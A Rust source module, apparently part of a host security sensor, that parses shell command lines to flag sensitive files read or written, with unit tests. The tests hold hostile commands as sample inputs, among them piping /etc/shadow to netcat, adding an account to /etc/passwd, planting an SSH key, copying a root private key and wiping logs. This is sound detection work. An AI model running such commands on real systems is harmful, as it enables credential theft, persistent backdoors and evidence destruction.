//! What a command line says it would do to files, whether or not it succeeds.
//!
//! Sensors give a command line as words, often without the quotes that were around them, so this reads tolerantly and no shell grammar
//! is followed: commands are cut at separators, what stands after `>` is written. An attempt that the kernel refuses leaves no
//! other trace than this.

use crate::sensitive::{self, Stake};

/// Letters of a text that are looked at.
const TEXT: usize = 16 * 1024;
/// Words of it.
const WORDS: usize = 2048;

/// What is said to be done to a file.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Intent {
    Read,
    Write,
}

/// A sensitive file that a command line names.
#[derive(Debug, Clone, PartialEq)]
pub(crate) struct Named {
    pub(crate) path: String,
    pub(crate) intent: Intent,
    pub(crate) stake: Stake,
}

/// The sensitive files that the text of a shell names.
pub(crate) fn of_shell(text: &str) -> Vec<Named> {
    let end = text.char_indices().nth(TEXT).map_or(text.len(), |(at, _)| at);
    let mut spaced = String::with_capacity(end * 2);
    let mut previous = ' ';
    for letter in text.get(..end).unwrap_or_default().chars() {
        match letter {
            // `2>&1` joins descriptors.
            '&' if previous == '>' => spaced.push(letter),
            '>' if previous == '>' => {}
            '>' => spaced.push_str(" > "),
            ';' | '|' | '&' | '\n' | '(' | ')' | '{' | '}' => spaced.push_str(" ; "),
            '"' | '\'' => {}
            _ => spaced.push(letter),
        }
        previous = letter;
    }
    let mut found = Vec::new();
    let mut command: Vec<&str> = Vec::new();
    let mut is_target = false;
    for word in spaced.split_ascii_whitespace().take(WORDS) {
        match word {
            ";" => {
                found.extend(of_command(&command));
                command.clear();
                is_target = false;
            }
            ">" => is_target = true,
            _ if is_target => {
                found.extend(named(word, Intent::Write));
                is_target = false;
            }
            _ => command.push(word),
        }
    }
    found.extend(of_command(&command));
    found
}

/// The sensitive files that a command's arguments name.
pub(crate) fn of_command(words: &[&str]) -> Vec<Named> {
    // Words that stand before a command in a shell's grammar.
    let mut words = words.iter().copied().skip_while(|word| {
        matches!(*word, "then" | "do" | "else" | "if" | "while" | "exec" | "command" | "sudo" | "!" | "[")
            || word.contains('=')
    });
    let Some(name) = words.next().and_then(|word| word.rsplit('/').next()) else { return Vec::new() };
    let files = words.filter(|word| !word.starts_with('-'));
    // Utilities of POSIX that change the files they are given.
    match name {
        "rm" | "rmdir" | "unlink" | "shred" | "truncate" => {
            files.filter_map(|path| stake(path, Intent::Write, sensitive::removed(path))).collect()
        }
        "tee" | "touch" | "mkdir" | "chmod" | "chown" => files.filter_map(|path| named(path, Intent::Write)).collect(),
        "cp" | "mv" | "ln" | "install" => {
            let files: Vec<&str> = files.collect();
            let source = files.first().and_then(|path| named(path, Intent::Read));
            files
                .last()
                .filter(|_| files.len() > 1)
                .and_then(|path| named(path, Intent::Write))
                .into_iter()
                .chain(source)
                .collect()
        }
        // What it prints are words.
        "echo" | "printf" => Vec::new(),
        _ => files.filter_map(|path| named(path, Intent::Read)).collect(),
    }
}

fn named(path: &str, intent: Intent) -> Option<Named> {
    match intent {
        Intent::Read => stake(path, intent, sensitive::read(path)),
        Intent::Write => stake(path, intent, sensitive::written(path)),
    }
}

fn stake(path: &str, intent: Intent, stake: Option<Stake>) -> Option<Named> {
    // `~/.ssh` and `$d/s.php` are paths whose beginning only the shell knows.
    let is_path = path.starts_with('/') || path.starts_with("~/") || path.starts_with('$');
    stake.filter(|_| is_path).map(|stake| Named { path: path.to_owned(), intent, stake })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn paths(text: &str) -> Vec<(Intent, String)> {
        of_shell(text).into_iter().map(|named| (named.intent, named.path)).collect()
    }

    #[test]
    fn redirections_and_arguments_name_files() {
        use Intent::{Read, Write};
        let own = |intent, path: &str| (intent, path.to_owned());
        assert_eq!(paths("echo 'x:0:0' >> /etc/passwd"), [own(Write, "/etc/passwd")]);
        assert_eq!(paths("cat /etc/shadow | nc host 1"), [own(Read, "/etc/shadow")]);
        assert_eq!(paths("for d in /a; do [ -d $d ] && echo hi > $d/s.php; done"), [own(Write, "$d/s.php")]);
        assert_eq!(
            paths("mkdir -p ~/.ssh; echo k >> ~/.ssh/authorized_keys"),
            [own(Write, "~/.ssh"), own(Write, "~/.ssh/authorized_keys")]
        );
        assert_eq!(paths("rm -rf /var/log/*.log"), [own(Write, "/var/log/*.log")]);
        assert_eq!(paths("cp /root/.ssh/id_rsa /tmp/x 2>&1"), [own(Read, "/root/.ssh/id_rsa")]);
    }

    #[test]
    fn words_that_are_only_printed_or_looked_for_name_nothing() {
        assert!(paths("echo /etc/shadow").is_empty());
        assert!(paths("ls /etc; date > /tmp/now").is_empty());
        assert!(paths("exec 2>&1; nginx -g 'daemon off;'").is_empty());
    }
}
